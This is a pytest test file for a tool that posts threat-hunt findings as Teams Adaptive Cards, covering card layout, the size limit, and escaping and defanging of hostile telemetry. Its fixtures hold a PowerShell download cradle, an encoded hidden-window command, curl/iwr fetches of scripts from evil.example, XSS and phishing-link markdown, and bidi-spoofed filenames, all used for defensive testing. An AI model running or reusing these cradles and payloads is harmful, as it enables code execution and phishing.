"""The incident card: structure, evidence, the 28 KB bound and hostile telemetry."""

from __future__ import annotations

import base64
import json
import subprocess
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from shared.cards import (
    ADAPTIVE_CARD,
    MAX_PAYLOAD_BYTES,
    card_of,
    escape_text,
    payload_size,
    summarize_digest,
)
from shared.cards.incident import build_incident_post
from shared.hunt import Hunt, TeamsOptions
from shared.incidents.preview import incident_preview

REPO = Path(__file__).resolve().parents[1]
NOW = datetime(2026, 11, 27, 23, 0, tzinfo=UTC)
DEVICE_ID = "3f6b2c1d9e8a7b6c5d4e3f2a1b0c9d8e7f6a5b4c"

INVISIBLE = ("\u200b\u200c\u200d\u200e\u200f\u202a\u202b\u202c\u202d\u202e"
             "\u2066\u2067\u2068\u2069\ufeff\x00\x1b\x7f\u2028\u2029")
HOSTILE = ("powershell -c \"[Reset your password](https://evil.example/login) "
           "![pixel](https://evil.example/p.png) <at>SOC Lead</at> <img src=x onerror=alert(1)> "
           "<a href='https://evil.example'>click</a> **bold** _it_ # heading "
           "www.evil.example {{DATE(2017-02-14T06:08:39Z, SHORT)}} "
           f"invoice{INVISIBLE}gpj.exe\" ")
HOSTILE_32K = (HOSTILE * (32_767 // len(HOSTILE) + 1))[:32_767]
CRADLE = "IEX (New-Object Net.WebClient).DownloadString('x')"
ENCODED = base64.b64encode(CRADLE.encode("utf-16-le")).decode()


def hunt(**overrides: Any) -> Hunt:
    fields: dict[str, Any] = {
        "id": "6f1d3a52-8c1e-4c47-9a0e-2f6b1c9d7e01",
        "name": "Encoded PowerShell from Office",
        "query": "DeviceProcessEvents\n| where FileName =~ \"powershell.exe\"",
        "source": "defender",
        "path": Path("hunts/encoded.yaml"),
        "severity": "High",
        "tactics": ("Execution",),
        "techniques": ("T1059.001", "T1105"),
    }
    fields.update(overrides)
    return Hunt(**fields)


def row(index: int = 0, **overrides: Any) -> dict[str, Any]:
    values: dict[str, Any] = {
        "Timestamp": datetime(2026, 11, 27, 22, 14, 3, tzinfo=UTC) + timedelta(seconds=index),
        "DeviceId": DEVICE_ID,
        "DeviceName": "ws-fin-042.contoso.local",
        "AccountDomain": "contoso",
        "AccountName": "j.doe",
        "InitiatingProcessFileName": "WINWORD.EXE",
        "FileName": "powershell.exe",
        "ProcessCommandLine": f"powershell.exe -NoP -W Hidden -Enc {ENCODED}",
        "DecodedCommand": CRADLE,
        "ReportId": 1000 + index,
    }
    values.update(overrides)
    return values


def build(chosen: Hunt, rows: list[dict[str, Any]]) -> dict[str, Any]:
    """The incident card production posts for *rows* of *chosen* (one device: one incident)."""
    _, _, post = incident_preview([chosen], {chosen.id: rows})
    return build_incident_post(post)


def walk(node: Any) -> Iterator[dict[str, Any]]:
    if isinstance(node, dict):
        yield node
        for value in node.values():
            yield from walk(value)
    elif isinstance(node, list):
        for item in node:
            yield from walk(item)


def text_runs(payload: dict[str, Any]) -> list[dict[str, Any]]:
    return [n for n in walk(card_of(payload)) if n.get("type") == "TextRun"]


def all_text(payload: dict[str, Any]) -> str:
    return "\n".join(str(n.get("text", "")) for n in walk(card_of(payload)))


def findings_shown(payload: dict[str, Any]) -> int:
    return sum(1 for e in card_of(payload)["body"][1:] if e["type"] == "Container")


def more_line(payload: dict[str, Any]) -> str | None:
    last = card_of(payload)["body"][-1]
    return str(last["text"]) if last["type"] == "TextBlock" else None


# --- structure -----------------------------------------------------------------------------

def test_payload_is_a_teams_message_carrying_one_adaptive_card_1_4() -> None:
    payload = build(hunt(), [row()])

    assert payload["type"] == "message"
    assert len(payload["attachments"]) == 1
    assert payload["attachments"][0]["contentType"] == ADAPTIVE_CARD
    card = card_of(payload)
    assert card["type"] == "AdaptiveCard"
    assert card["version"] == "1.4"
    assert card["msteams"] == {"width": "Full"}, "no mention entities, ever"


def test_header_names_severity_hunt_device_count_and_links_techniques() -> None:
    payload = build(hunt(), [row(i) for i in range(3)])
    header = card_of(payload)["body"][0]
    text = all_text({"attachments": [{"content": header}]})

    assert "Encoded PowerShell from Office" in text
    assert "HIGH" in text
    assert "3 new findings" in text
    assert "ws-fin-042.contoso.local" in text
    links = {r["text"]: r["selectAction"]["url"] for r in text_runs(payload)
             if "selectAction" in r}
    assert links["T1059.001"] == "https://attack.mitre.org/techniques/T1059/001/"
    assert links["T1105"] == "https://attack.mitre.org/techniques/T1105/"


def test_finding_shows_time_account_parent_process_command_and_decoded_once() -> None:
    texts = [r["text"] for r in text_runs(build(hunt(), [row()]))]

    assert "2026-11-27 22:14:03 UTC" in texts
    assert "contoso\\j.doe" in texts
    assert "WINWORD.EXE" in texts
    assert "powershell.exe" in texts
    assert (f"powershell.exe -NoP -W Hidden -Enc ‹base64, {len(ENCODED)} characters, decoded "
            "script 1 above›") in texts
    assert ENCODED not in str(texts)  # the blob only as its length
    assert texts.count(CRADLE) == 1


def test_network_rows_use_the_initiating_process_and_show_the_endpoint_with_a_colon() -> None:
    network = {"Timestamp": "2026-11-27T22:14:03.1234567Z", "DeviceId": DEVICE_ID,
               "DeviceName": "ws1", "InitiatingProcessParentFileName": "explorer.exe",
               "InitiatingProcessFileName": "powershell.exe",
               "InitiatingProcessCommandLine": "powershell -c iwr https://x.example/a",
               "RemoteIP": "203.0.113.7", "RemotePort": 443, "RemoteUrl": "x.example"}
    texts = [r["text"] for r in text_runs(build(hunt(), [network]))]

    assert "2026-11-27 22:14:03 UTC" in texts
    assert "explorer.exe" in texts
    assert "powershell -c iwr hxxps[:]//x[.]example/a" in texts
    assert "203.0.113.7:443 (x.example)" in texts


def test_rows_without_process_fields_show_their_own_columns() -> None:
    signin = {"TimeGenerated": NOW, "UserPrincipalName": "ceo@contoso.com",
              "IPAddress": "198.51.100.9", "ResultType": 0, "TenantId": "hidden"}
    texts = [r["text"] for r in text_runs(build(hunt(source="sentinel"), [signin]))]

    assert "ceo@contoso.com" in texts
    assert "198.51.100.9" in texts
    assert "ResultType: " in texts  # an unknown column: name and value, never dropped
    assert "hidden" not in texts


def test_teams_columns_of_the_hunt_are_always_shown() -> None:
    chosen = hunt(teams=TeamsOptions(max_findings=5, columns=("SHA256", "FolderPath")))
    texts = [r["text"] for r in text_runs(build(chosen, [row(SHA256="ab" * 32,
                                                             FolderPath="C:\\Temp")]))]

    assert "SHA256: " in texts
    assert "ab" * 32 in texts
    assert "FolderPath: " in texts  # a process detail otherwise only named
    assert "C:\\Temp" in texts


@pytest.mark.parametrize("device_id", ["not-a-device", "a" * 39, "a" * 40 + "/../../evil",
                                       "[x](https://evil.example)", 42, None])
def test_device_link_only_for_a_well_formed_device_id(device_id: Any) -> None:
    payload = build(hunt(), [row(DeviceId=device_id)])
    card = card_of(payload)
    urls = [a["url"] for a in card.get("actions", [])]
    urls += [r["selectAction"]["url"] for r in text_runs(payload) if "selectAction" in r]

    assert not [u for u in urls if "machines" in u]
    assert "evil.example" not in json.dumps(payload)


# --- the size bound --------------------------------------------------------------------------

@pytest.mark.parametrize("count", [1, 50, 3_000])
def test_payload_stays_under_28_kb_with_32k_hostile_values(count: int) -> None:
    big = HOSTILE_32K if count < 100 else HOSTILE * 10  # (hashing 3,000 x 2 MB rows is slow)
    rows = [row(i, ProcessCommandLine=HOSTILE_32K, DecodedCommand=HOSTILE_32K,
                AccountName=big, Extra=big, Tree=[big] * 50) for i in range(count)]
    payload = build(hunt(), rows)

    assert payload_size(payload) <= MAX_PAYLOAD_BYTES
    assert card_of(payload)["version"] == "1.4"
    assert f"{count:,} new finding" in all_text(payload)


def test_multibyte_values_are_measured_in_bytes() -> None:
    emoji = "😈" * 32_767
    rows = [row(i, ProcessCommandLine=emoji, DecodedCommand=emoji) for i in range(3_000)]
    payload = build(hunt(), rows)

    assert payload_size(payload) <= MAX_PAYLOAD_BYTES


def test_summarize_digest_reads_back_an_incident_card() -> None:
    summary = summarize_digest(build(hunt(), [row(i) for i in range(12)]))

    assert summary.severity == "HIGH"
    assert summary.hunt_name == "Encoded PowerShell from Office"
    assert summary.kind == "incident"
    assert summary.total_new == 12
    assert summary.where == "ws-fin-042.contoso.local"


def test_payload_size_is_compact_utf8_json() -> None:
    payload = {"a": "é", "b": [1, 2]}
    assert payload_size(payload) == len('{"a":"é","b":[1,2]}'.encode())


# --- hostile telemetry -----------------------------------------------------------------------

def hostile_payload() -> dict[str, Any]:
    rows = [row(i, ProcessCommandLine=HOSTILE_32K, DecodedCommand=HOSTILE_32K,
                DeviceName=HOSTILE, AccountName=HOSTILE, InitiatingProcessFileName=HOSTILE,
                FileName=HOSTILE) for i in range(5)]
    return build(hunt(), rows)


def test_telemetry_is_only_ever_in_text_runs() -> None:
    canary = "CANARY-7f3a"
    values = {k: f"{canary} {k}" for k in row()}
    values["Timestamp"] = f"{canary} not a time"
    payload = build(hunt(), [values])

    for node in walk(card_of(payload)):
        for key, value in node.items():
            if isinstance(value, str) and canary in value:
                assert (node["type"], key) == ("TextRun", "text"), node


def test_hostile_strings_cannot_link_mention_embed_or_hide() -> None:
    telemetry = [r["text"] for r in text_runs(hostile_payload()) if HOSTILE[:10] in r["text"]
                 or "invoice" in r["text"]]
    assert telemetry

    for text in telemetry:
        for needle in ("](", "][", "<at>", "</at>", "<img", "<a ", "https://", "evil.example",
                       "{{DATE"):
            assert needle not in text
        assert not set(text) & set(INVISIBLE)
        assert "\n" not in text or "…[truncated" in text


def test_hostile_payload_keeps_visible_evidence_of_what_was_neutralised() -> None:
    dump = all_text(hostile_payload())

    for marker in ("{U+202E}", "{U+200B}", "{U+2066}", "{U+FEFF}", "{U+0000}"):
        assert marker in dump
    assert "hxxps[:]//evil[.]example/login" in dump
    assert "more characters in advanced hunting" in dump  # the decoded script, cut
    assert "…[truncated: 32," in dump  # the command line
    assert "\u2039at>SOC Lead\u2039/at>" in dump


def test_a_time_column_that_is_not_a_time_is_escaped_like_any_value() -> None:
    payload = build(hunt(), [row(Timestamp=HOSTILE)])
    dump = all_text(payload)

    assert "<at>" not in dump
    assert "\u202e" not in dump


def test_hostile_hunt_file_strings_are_escaped_too() -> None:
    chosen = hunt(name="<at>all</at> [x](https://evil.example)", tactics=("\u202eExecution",),
                  description="![p](https://evil.example/p.png)")
    dump = all_text(build(chosen, [row()]))

    for needle in ("<at>", "https://evil", "\u202e"):
        assert needle not in dump


@pytest.mark.parametrize(("raw", "expected"), [
    ("[a](https://e.x)", "[a] (hxxps[:]//e[.]x)"),
    ("![i](http://e.x/i.png)", "![i] (hxxp[:]//e[.]x/i.png)"),
    ("[a][ref]", "[a] [ref]"),
    ("HTTPS://E.X:8443/a.b?c.d", "HxxPS[:]//E[.]X:8443/a.b?c.d"),
    ("ftp://e.x", "fxp[:]//e[.]x"),
    ("iwr //e.x/a.ps1", "iwr //e[.]x/a.ps1"),
    ("\\\\srv.corp\\share", "\\\\srv.corp\\share"),
    ("javascript:alert(1)", "javascript[:]alert(1)"),
    ("visit www.e.x/a", "visit www[.]e[.]x/a"),
    ("<at>Boss</at>", "\u2039at>Boss\u2039/at>"),
    ("<!-- x -->", "\u2039!-- x -->"),
    ("2>&1 | more < in.txt", "2>&1 | more < in.txt"),
    ("{{TIME(2017-02-14T06:08:39Z)}}", "{ {TIME(2017-02-14T06:08:39Z)}}"),
    ("a\u202eb\u200bc\ufeff", "a{U+202E}b{U+200B}c{U+FEFF}"),
    ("nul\x00esc\x1b", "nul{U+0000}esc{U+001B}"),
    ("line1\r\nline2", "line1↵line2"),
    ("lone \ud800 surrogate", "lone {U+D800} surrogate"),
    ("e\u0301\u0301\u0301\u0301", "e\u0301\u0301{U+0301}{U+0301}"),
    ("x [Convert]::FromBase64String($x)", "x [Convert]::FromBase64String($x)"),
    ("[ref]: //e.x", "[ref] : //e[.]x"),
    ("C:\\Users\\*\\AppData _x_", "C:\\Users\\*\\AppData _x_"),
    (None, ""),
    (True, "true"),
    ({"k": [1, "v"]}, '{"k":[1,"v"]}'),
    (datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC), "2026-01-02T03:04:05Z"),
])
def test_escape_text_rules(raw: Any, expected: str) -> None:
    assert escape_text(raw) == expected


def test_escape_text_keeps_line_breaks_in_multiline_values_but_collapses_runs() -> None:
    assert escape_text("a\n\n\n\n\nb\nc", multiline=True) == "a\n\nb\nc"


def test_escape_text_cuts_long_values_with_a_visible_marker() -> None:
    text = escape_text("A" * 32_767, limit=200)

    assert len(text) == 200
    assert text.endswith(" …[truncated: 32,767 chars]")


def test_escape_text_does_not_cut_a_marker_in_half() -> None:
    text = escape_text("A" * 170 + "\u202e" * 50, limit=200)
    head = text.split(" …[truncated")[0]

    assert head.count("{U+") == head.count("}")


def test_escaped_text_is_inert_even_for_a_markdown_client() -> None:
    """What a client that did run markdown on TextRun text (markdown-it, which the JS renderer
    uses, with raw HTML and URL linkifying on) would make of it: no links, images or HTML.
    Bare domains (``contoso.com``) are left readable, so fuzzy linking is off here."""
    texts = [r["text"] for r in text_runs(hostile_payload())]
    script = ("const md = require('markdown-it')({html: true, linkify: true});"
              "md.linkify.set({fuzzyLink: false});"
              "const texts = JSON.parse(require('fs').readFileSync(0, 'utf8'));"
              "process.stdout.write(JSON.stringify(texts.map((t) => md.render(t))));")
    done = subprocess.run(["node", "-e", script], input=json.dumps(texts), cwd=REPO,
                          capture_output=True, text=True, timeout=60, check=True)
    rendered = json.loads(done.stdout)

    assert len(rendered) == len(texts)
    for html in rendered:
        for needle in ("<a ", "<img", "<at>"):
            assert needle not in html, html


def test_a_value_cut_before_escaping_is_marked_even_when_the_rest_collapses() -> None:
    text = escape_text("a" + "\n" * 5_000 + "tail", limit=100, multiline=True)

    assert "tail" not in text
    assert text.endswith(" …[truncated: 5,005 chars]")


# --- defanging cannot be bypassed (issue 16) -------------------------------------------------

@pytest.mark.parametrize(("raw", "expected"), [
    ("curl http://127.0.0.1:https://evil.example/p.ps1",
     "curl hxxp[:]//127[.]0[.]0[.]1:hxxps[:]//evil[.]example/p.ps1"),
    ("http://x@https://evil.example/a", "hxxp[:]//x@hxxps[:]//evil[.]example/a"),
    ("xhttps://evil.example", "xhxxps[:]//evil[.]example"),
    ("iwr -uri hTtPs://EvIl.example/x", "iwr -uri hxxPs[:]//EvIl[.]example/x"),
    ("hxxps[:]//evil[.]example/p", "hxxps[:]//evil[.]example/p"),
    ("hxxp://evil.example", "hxxp[:]//evil[.]example"),
    ("https:/\\evil.example/x", "hxxps[:]/\\evil[.]example/x"),
    ("https:evil.example", "hxxps[:]evil.example"),
    ("ws://evil.example:8080/s", "ws[:]//evil[.]example:8080/s"),
    ("a=1;ftps://evil.example", "a=1;fxps[:]//evil[.]example"),
    ("xjavascript:alert(1)", "xjavascript[:]alert(1)"),
])
def test_defanging_cannot_be_bypassed(raw: str, expected: str) -> None:
    assert escape_text(raw) == expected


SCHEMES = ("http", "https", "ftp", "ftps", "HTTP", "hTtPs")


@pytest.mark.parametrize("prefix", ["", "x", "1", "http://a.b:", "http://u@", "[", "(", "'"])
@pytest.mark.parametrize("scheme", SCHEMES)
def test_no_scheme_survives_anywhere_in_the_text(prefix: str, scheme: str) -> None:
    text = escape_text(f"{prefix}{scheme}://evil.example/p")

    assert "://" not in text
    assert "evil.example" not in text
    assert scheme.lower() + ":" not in text.lower()
    assert text.lower().count("http") == 0


def test_defanging_twice_changes_nothing() -> None:
    once = escape_text(HOSTILE + " curl http://127.0.0.1:https://evil.example/p.ps1")
    assert escape_text(once, limit=10_000) == once
